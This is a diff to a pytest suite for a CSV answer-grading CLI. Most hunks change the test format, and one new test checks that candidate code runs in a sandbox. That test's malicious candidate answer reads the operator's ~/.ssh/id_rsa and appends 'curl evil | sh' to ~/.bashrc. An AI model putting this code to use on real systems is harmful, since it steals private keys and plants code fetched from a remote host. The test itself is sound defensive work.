@@ -93,7 +93,7 @@ def test_rows_it_cannot_grade_are_kept_and_reported(app: typer.Typer, tmp_path: 
 
 
 def test_short_choice_and_code_rows(app: typer.Typer, tmp_path: Path) -> None:
-    tests = "def test_add():\n    assert add(2, 3) == 5\n"
+    tests = "- {name: adds two numbers, run: 'add(2, 3)', expect: 5}\n"
     src = write_csv(tmp_path / "in.csv", [
         {"question": "What lock?", "reference_answer": "GIL; global interpreter lock",
          "answer": "the Global Interpreter Lock", "kind": "short", "choices": "", "tests": ""},
@@ -108,7 +108,7 @@ def test_short_choice_and_code_rows(app: typer.Typer, tmp_path: Path) -> None:
     assert res.exit_code == 0, res.output
     rows = read_csv(out)
     assert [r["verdict"] for r in rows] == ["correct", "correct", "wrong"]
-    assert "✗ test_add: failed: assert add(2, 3) == 5" in rows[2]["feedback"]
+    assert "✗ adds two numbers: expected 5, got -1" in rows[2]["feedback"]
 
 
 def test_a_file_without_the_columns_is_refused(app: typer.Typer, tmp_path: Path) -> None:
@@ -202,3 +202,28 @@ def test_one_oversized_field_fails_only_its_row(app: typer.Typer, tmp_path: Path
         csv.field_size_limit(old)
     assert rows[0]["verdict"] == "error" and "200,000 characters" in rows[0]["feedback"]
     assert rows[1]["verdict"] in ("partial", "correct")
+
+
+def test_code_rows_cannot_reach_the_operators_files(app: typer.Typer, tmp_path: Path,
+                                                    monkeypatch: pytest.MonkeyPatch) -> None:
+    """Review C4: grade-file ran candidates' code as the operator (it read ~/.ssh/id_rsa into
+    the output and appended to ~/.bashrc). Code rows now run in the sandbox."""
+    home = tmp_path / "home"
+    (home / ".ssh").mkdir(parents=True)
+    key = home / ".ssh" / "id_rsa"
+    key.write_text("-----BEGIN FAKE PRIVATE KEY-----\n")
+    monkeypatch.setenv("HOME", str(home))
+    steal = (f"def add(a, b):\n    try:\n        return open({str(key)!r}).read()\n"
+             f"    except OSError as e:\n        return str(e)\n"
+             f"open({str(home / '.bashrc')!r}, 'a').write('curl evil | sh')\n")
+    src = write_csv(tmp_path / "in.csv", [
+        {"question": "Write add(a, b)", "reference_answer": "def add(a, b): return a + b",
+         "answer": steal, "kind": "code", "choices": "",
+         "tests": "- {name: adds, run: 'add(2, 3)', expect: 5}\n"}])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 0, res.output
+    text = out.read_text()
+    assert "FAKE PRIVATE KEY" not in text and "FAKE PRIVATE KEY" not in res.output
+    assert not (home / ".bashrc").exists()
+    assert read_csv(out)[0]["verdict"] == "wrong"
